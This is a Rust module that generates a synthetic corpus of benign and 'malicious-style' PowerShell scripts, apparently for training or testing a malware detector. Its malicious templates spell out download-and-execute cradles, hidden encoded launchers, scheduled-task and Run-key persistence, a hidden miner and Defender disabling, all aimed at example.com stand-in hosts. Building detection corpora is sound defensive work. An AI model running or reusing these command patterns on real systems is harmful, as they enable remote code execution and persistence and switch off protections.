//! Deterministic synthetic corpus of benign administration scripts and
//! malicious-style droppers.
//!
//! Malicious scripts only imitate the surface of download cradles, encoded
//! commands and persistence stubs. Every host is under example.com,
//! example.org or example.net, and every encoded blob is random bytes.

use std::fs;
use std::path::Path;

use base64::Engine;
use rand::seq::IndexedRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::pipeline::{CorpusManifest, ManifestEntry, PipelineError};
use crate::rng::{stream_id, substream};
use crate::script::{Label, SourceScript};

/// Minimum length of an encoded blob.
pub const MIN_BLOB_CHARS: usize = 256;

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct GeneratorSpec {
    pub seed: u64,
    pub n_benign: usize,
    pub n_malicious: usize,
    /// Probability that a malicious script carries an encoded blob.
    pub obfuscation: f64,
}

impl GeneratorSpec {
    pub fn new(seed: u64, n_benign: usize, n_malicious: usize) -> Self {
        GeneratorSpec {
            seed,
            n_benign,
            n_malicious,
            obfuscation: 1.0,
        }
    }

    pub fn with_obfuscation(mut self, obfuscation: f64) -> Self {
        self.obfuscation = obfuscation;
        self
    }
}

#[derive(Debug, thiserror::Error)]
pub enum SynthError {
    #[error("obfuscation {0} not in [0, 1]")]
    Obfuscation(f64),
    #[error("{path}: {source}")]
    Io {
        path: String,
        #[source]
        source: std::io::Error,
    },
    #[error(transparent)]
    Manifest(#[from] PipelineError),
}

/// A generated script with the template family that produced its core.
#[derive(Debug, Clone, PartialEq)]
pub struct Generated {
    pub script: SourceScript,
    pub family: &'static str,
}

const HOSTS: &[&str] = &[
    "example.com",
    "example.org",
    "example.net",
    "cdn.example.com",
    "update.example.net",
    "static.example.org",
    "files.example.com",
    "mirror.example.net",
];

const VAR_STEMS: &[&str] = &[
    "data", "client", "wc", "buf", "res", "item", "cfg", "tmp", "obj", "val", "payload", "script", "stage", "blob",
    "path", "target", "result", "list", "entry", "info",
];

const FOLDERS: &[&str] = &[
    "C:\\Logs",
    "C:\\Temp",
    "C:\\Data\\Reports",
    "D:\\Backup",
    "C:\\inetpub\\logs",
    "C:\\Scripts",
    "E:\\Archive",
];

const SERVICES: &[&str] = &[
    "Spooler", "W32Time", "BITS", "wuauserv", "WinRM", "Dnscache", "EventLog",
];

const TASK_NAMES: &[&str] = &[
    "SystemUpdate",
    "WindowsHelper",
    "GoogleUpdateTaskCore",
    "MicrosoftEdgeSvc",
    "DriverCheck",
    "TelemetrySync",
];

struct Gen {
    rng: ChaCha8Rng,
}

impl Gen {
    fn pick<'a>(&mut self, items: &'a [&'a str]) -> &'a str {
        items.choose(&mut self.rng).expect("non-empty pool")
    }

    fn int(&mut self, lo: u32, hi: u32) -> u32 {
        self.rng.random_range(lo..=hi)
    }

    fn alnum(&mut self, len: usize) -> String {
        const CHARS: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
        (0..len)
            .map(|_| CHARS[self.rng.random_range(0..CHARS.len())] as char)
            .collect()
    }

    fn hex_upper(&mut self, len: usize) -> String {
        const CHARS: &[u8] = b"0123456789ABCDEF";
        (0..len)
            .map(|_| CHARS[self.rng.random_range(0..CHARS.len())] as char)
            .collect()
    }

    fn var(&mut self) -> String {
        let stem = self.pick(VAR_STEMS);
        format!("${stem}{}", self.int(1, 99))
    }

    fn url(&mut self, ext: &str) -> String {
        let host = self.pick(HOSTS);
        let port = [80, 8080, 443, 13405, 8443][self.int(0, 4) as usize];
        let name = self.hex_upper(8);
        if self.rng.random_bool(0.5) {
            format!("http://{host}:{port}/{name}.{ext}")
        } else {
            format!("https://{host}/{}/{name}.{ext}", self.alnum(5))
        }
    }

    fn folder(&mut self) -> String {
        self.pick(FOLDERS).to_string()
    }

    /// Base64 of random bytes, at least [`MIN_BLOB_CHARS`] characters.
    fn blob(&mut self) -> String {
        let bytes = self.int(192, 576) as usize;
        let raw: Vec<u8> = (0..bytes).map(|_| self.rng.random()).collect();
        base64::engine::general_purpose::STANDARD.encode(raw)
    }
}

type Template = fn(&mut Gen) -> String;

const BENIGN: &[(&str, Template)] = &[
    ("file-listing", |g| {
        let (dir, v) = (g.folder(), g.var());
        format!(
            "{v} = Get-ChildItem -Path '{dir}' -Recurse -File\n{v} | Sort-Object Length -Descending | Select-Object -First {} Name, Length\n",
            g.int(5, 25)
        )
    }),
    ("service-query", |g| {
        let svc = g.pick(SERVICES);
        format!(
            "$svc = Get-Service -Name {svc}\nif ($svc.Status -ne 'Running') {{\n    Write-Output \"{svc} is stopped\"\n}} else {{\n    Write-Output \"{svc} is running\"\n}}\n"
        )
    }),
    ("log-rotation", |g| {
        let (dir, days, v) = (g.folder(), g.int(7, 90), g.var());
        format!(
            "{v} = (Get-Date).AddDays(-{days})\nGet-ChildItem -Path '{dir}' -Filter *.log | Where-Object {{ $_.LastWriteTime -lt {v} }} | Remove-Item -WhatIf\n"
        )
    }),
    ("disk-report", |g| {
        let v = g.var();
        format!(
            "{v} = Get-PSDrive -PSProvider FileSystem\nforeach ($d in {v}) {{\n    $free = [math]::Round($d.Free / 1GB, {})\n    Write-Output \"$($d.Name): $free GB free\"\n}}\n",
            g.int(1, 3)
        )
    }),
    ("user-audit", |g| {
        let v = g.var();
        format!(
            "{v} = Get-LocalUser | Where-Object {{ $_.Enabled }}\n{v} | Select-Object Name, LastLogon | Export-Csv -Path '{}\\users.csv' -NoTypeInformation\n",
            g.folder()
        )
    }),
    ("event-log", |g| {
        let n = g.int(10, 200);
        format!(
            "Get-EventLog -LogName System -EntryType Error -Newest {n} | Group-Object Source | Sort-Object Count -Descending | Format-Table -AutoSize\n"
        )
    }),
    ("backup-copy", |g| {
        let (src, dst) = (g.folder(), g.folder());
        format!(
            "$stamp = Get-Date -Format 'yyyyMMdd'\n$dest = Join-Path '{dst}' $stamp\nNew-Item -ItemType Directory -Path $dest -Force\nCopy-Item -Path '{src}\\*' -Destination $dest -Recurse\n"
        )
    }),
    ("process-report", |g| {
        let n = g.int(5, 15);
        format!(
            "Get-Process | Sort-Object WorkingSet -Descending | Select-Object -First {n} ProcessName, Id, WorkingSet | Format-Table\n"
        )
    }),
    ("network-config", |g| {
        let v = g.var();
        format!(
            "{v} = Get-NetIPConfiguration\nforeach ($adapter in {v}) {{\n    Write-Output $adapter.InterfaceAlias\n    Test-Connection -ComputerName {} -Count {} -Quiet\n}}\n",
            g.pick(HOSTS),
            g.int(1, 4)
        )
    }),
    ("hotfix-list", |g| {
        let (v, dir) = (g.var(), g.folder());
        format!(
            "{v} = Get-HotFix | Sort-Object InstalledOn\n{v} | Out-File -FilePath '{dir}\\hotfixes.txt'\nWrite-Output \"$({v}.Count) updates installed\"\n"
        )
    }),
    ("archive-logs", |g| {
        let dir = g.folder();
        format!(
            "Compress-Archive -Path '{dir}\\*.log' -DestinationPath '{dir}\\logs-{}.zip' -Force\n",
            g.int(1, 12)
        )
    }),
    ("module-check", |g| {
        let v = g.var();
        format!(
            "{v} = Get-Module -ListAvailable\nfunction Show-Count {{\n    param($items)\n    Write-Output $items.Count\n}}\nShow-Count {v}\n"
        )
    }),
];

const MALICIOUS: &[(&str, Template)] = &[
    ("cradle-iex", |g| {
        let url = g.url("png");
        format!("IEX (New-Object Net.WebClient).DownloadString('{url}')\n")
    }),
    ("cradle-two-stage", |g| {
        let (a, b) = (g.url("Png"), g.url("Png"));
        format!("IEX (New-Object Net.WebClient).DownloadString('{a}'); MsiMake {b}\n")
    }),
    ("cradle-variable", |g| {
        let (wc, s, url) = (g.var(), g.var(), g.url("ps1"));
        format!("{wc} = New-Object System.Net.WebClient\n{s} = {wc}.DownloadString('{url}')\nInvoke-Expression {s}\n")
    }),
    ("cradle-hidden-shell", |g| {
        let url = g.url("txt");
        format!(
            "powershell.exe -nop -w hidden -exec bypass -c \"IEX (New-Object Net.WebClient).DownloadString('{url}')\"\n"
        )
    }),
    ("webrequest-load", |g| {
        let (v, url) = (g.var(), g.url("dll"));
        format!(
            "{v} = (Invoke-WebRequest -Uri '{url}' -UseBasicParsing).Content\n[System.Reflection.Assembly]::Load({v})\n"
        )
    }),
    ("scheduled-task", |g| {
        let (name, url) = (g.pick(TASK_NAMES), g.url("ps1"));
        format!(
            "schtasks /create /tn {name} /sc minute /mo {} /tr \"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('{url}')\" /f\n",
            g.int(5, 60)
        )
    }),
    ("registry-run", |g| {
        let (name, url) = (g.pick(TASK_NAMES), g.url("ps1"));
        format!(
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name '{name}' -Value \"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('{url}')\"\n"
        )
    }),
    ("miner-launch", |g| {
        let (pool, wallet) = (g.var(), g.var());
        let host = g.pick(HOSTS);
        format!(
            "{pool} = 'stratum+tcp://pool.{host}:{}'\n{wallet} = 'PLACEHOLDER-{}'\nStart-Process -FilePath \"$env:TEMP\\svchost.exe\" -ArgumentList \"-o {pool} -u {wallet} --donate-level 1\" -WindowStyle Hidden\n",
            g.int(3333, 3399),
            g.hex_upper(12)
        )
    }),
    ("defender-exclusion", |g| {
        let dir = g.folder();
        format!(
            "Add-MpPreference -ExclusionPath '{dir}'\nSet-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionProcess 'svchost.exe'\n"
        )
    }),
    ("competitor-kill", |g| {
        let n = g.int(40, 90);
        format!(
            "Get-Process | Where-Object {{ $_.CPU -gt {n} -and $_.ProcessName -ne 'svchost' }} | Stop-Process -Force\n"
        )
    }),
    ("wmi-subscription", |g| {
        let (v, name) = (g.var(), g.pick(TASK_NAMES));
        format!(
            "{v} = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{{Name = '{name}'; QueryLanguage = 'WQL'; Query = 'SELECT * FROM __InstanceModificationEvent WITHIN {}'}}\n",
            g.int(30, 120)
        )
    }),
    ("bits-transfer", |g| {
        let url = g.url("exe");
        format!(
            "Start-BitsTransfer -Source '{url}' -Destination \"$env:APPDATA\\{}.exe\"\nStart-Process \"$env:APPDATA\\{}.exe\" -WindowStyle Hidden\n",
            g.alnum(6),
            g.alnum(6)
        )
    }),
];

fn encoded_fragment(g: &mut Gen) -> String {
    let blob = g.blob();
    if g.rng.random_bool(0.5) {
        format!("powershell.exe -NoP -NonI -W Hidden -Enc {blob}\n")
    } else {
        let (p, c) = (g.var(), g.var());
        format!(
            "{p} = '{blob}'\n{c} = [System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String({p}))\nIEX {c}\n"
        )
    }
}

fn benign_script(g: &mut Gen) -> (String, &'static str) {
    let parts = g.int(1, 3);
    let mut text = String::new();
    let mut family = "";
    for k in 0..parts {
        let (name, template) = *BENIGN.choose(&mut g.rng).expect("pool");
        if k == 0 {
            family = name;
            if g.rng.random_bool(0.5) {
                text.push_str(&format!("# {} maintenance task\n", name.replace('-', " ")));
            }
        }
        text.push_str(&template(g));
    }
    (text, family)
}

fn malicious_script(g: &mut Gen, obfuscation: f64) -> (String, &'static str) {
    let parts = g.int(1, 3);
    let mut fragments = Vec::new();
    let mut family = "";
    for k in 0..parts {
        let (name, template) = *MALICIOUS.choose(&mut g.rng).expect("pool");
        if k == 0 {
            family = name;
        }
        fragments.push(template(g));
    }
    if obfuscation > 0.0 && g.rng.random_bool(obfuscation) {
        let at = g.rng.random_range(0..=fragments.len());
        fragments.insert(at, encoded_fragment(g));
    }
    (fragments.concat(), family)
}

/// Benign scripts first, then malicious ones. Script `i` of each class draws
/// from its own random stream, so output does not depend on generation order.
pub fn generate_with_families(spec: &GeneratorSpec) -> Result<Vec<Generated>, SynthError> {
    if !(0.0..=1.0).contains(&spec.obfuscation) {
        return Err(SynthError::Obfuscation(spec.obfuscation));
    }
    let mut out = Vec::with_capacity(spec.n_benign + spec.n_malicious);
    for (label, count) in [(Label::Benign, spec.n_benign), (Label::Malicious, spec.n_malicious)] {
        for i in 0..count {
            let mut g = Gen {
                rng: substream(spec.seed, stream_id(&[label.as_u8() as u64, i as u64])),
            };
            let (text, family) = match label {
                Label::Benign => benign_script(&mut g),
                Label::Malicious => malicious_script(&mut g, spec.obfuscation),
            };
            let prefix = match label {
                Label::Benign => "benign",
                Label::Malicious => "malicious",
            };
            let script = SourceScript::labeled(format!("{prefix}-{i:04}"), text, label)
                .with_origin(format!("synth:seed={}", spec.seed));
            out.push(Generated { script, family });
        }
    }
    Ok(out)
}

pub fn generate(spec: &GeneratorSpec) -> Result<Vec<SourceScript>, SynthError> {
    Ok(generate_with_families(spec)?.into_iter().map(|g| g.script).collect())
}

/// Writes `benign/*.ps1`, `malicious/*.ps1` and `manifest.csv` under `dir`.
pub fn write_corpus(spec: &GeneratorSpec, dir: &Path) -> Result<CorpusManifest, SynthError> {
    let io = |path: &Path| {
        let path = path.display().to_string();
        move |source| SynthError::Io { path, source }
    };
    let mut entries = Vec::new();
    for generated in generate_with_families(spec)? {
        let label = generated.script.label.expect("generated scripts are labeled");
        let sub = match label {
            Label::Benign => "benign",
            Label::Malicious => "malicious",
        };
        let folder = dir.join(sub);
        fs::create_dir_all(&folder).map_err(io(&folder))?;
        let rel = format!("{sub}/{}.ps1", generated.script.id);
        let path = dir.join(&rel);
        fs::write(&path, generated.script.text.as_bytes()).map_err(io(&path))?;
        entries.push(ManifestEntry {
            path: rel.into(),
            label,
            family: Some(generated.family.to_string()),
        });
    }
    fs::create_dir_all(dir).map_err(io(dir))?;
    let manifest = CorpusManifest {
        root: dir.to_path_buf(),
        entries,
    };
    manifest.save(&dir.join("manifest.csv"))?;
    Ok(manifest)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ast::AstKind;
    use crate::parser::parse;

    #[test]
    fn pools_are_large_enough() {
        assert!(BENIGN.len() >= 10);
        assert!(MALICIOUS.len() >= 10);
    }

    #[test]
    fn deterministic_and_counted() {
        let spec = GeneratorSpec::new(7, 20, 20);
        let a = generate(&spec).unwrap();
        assert_eq!(a, generate(&spec).unwrap());
        assert_eq!(a.iter().filter(|s| s.label == Some(Label::Malicious)).count(), 20);
        assert!(generate(&GeneratorSpec::new(7, 0, 0)).unwrap().is_empty());
        assert_ne!(a, generate(&GeneratorSpec::new(8, 20, 20)).unwrap());
    }

    #[test]
    fn every_template_parses_cleanly() {
        for seed in 0..40 {
            let mut g = Gen {
                rng: substream(seed, 99),
            };
            for (name, template) in BENIGN.iter().chain(MALICIOUS) {
                let text = template(&mut g);
                let root = parse(&SourceScript::new(*name, text.clone()));
                assert_eq!(
                    root.count_kind(AstKind::ErrorAst),
                    0,
                    "{name}:\n{text}\n{}",
                    root.dump()
                );
            }
            let text = encoded_fragment(&mut g);
            assert_eq!(parse(&SourceScript::new("enc", text)).count_kind(AstKind::ErrorAst), 0);
        }
    }

    #[test]
    fn blobs_at_full_obfuscation() {
        let scripts = generate(&GeneratorSpec::new(3, 0, 30)).unwrap();
        for s in scripts {
            let longest = s
                .text
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '='))
                .map(str::len)
                .max()
                .unwrap_or(0);
            assert!(longest >= MIN_BLOB_CHARS, "{}", s.id);
        }
    }

    #[test]
    fn only_reserved_domains() {
        let scripts = generate(&GeneratorSpec::new(5, 30, 30)).unwrap();
        for s in scripts {
            for part in s.text.split("://").skip(1) {
                let host: String = part
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '.' || *c == '-')
                    .collect();
                assert!(
                    ["example.com", "example.org", "example.net"]
                        .iter()
                        .any(|d| host.ends_with(d)),
                    "{host}"
                );
            }
        }
    }

    #[test]
    fn bad_obfuscation_is_rejected() {
        assert!(generate(&GeneratorSpec::new(1, 1, 1).with_obfuscation(1.5)).is_err());
    }
}
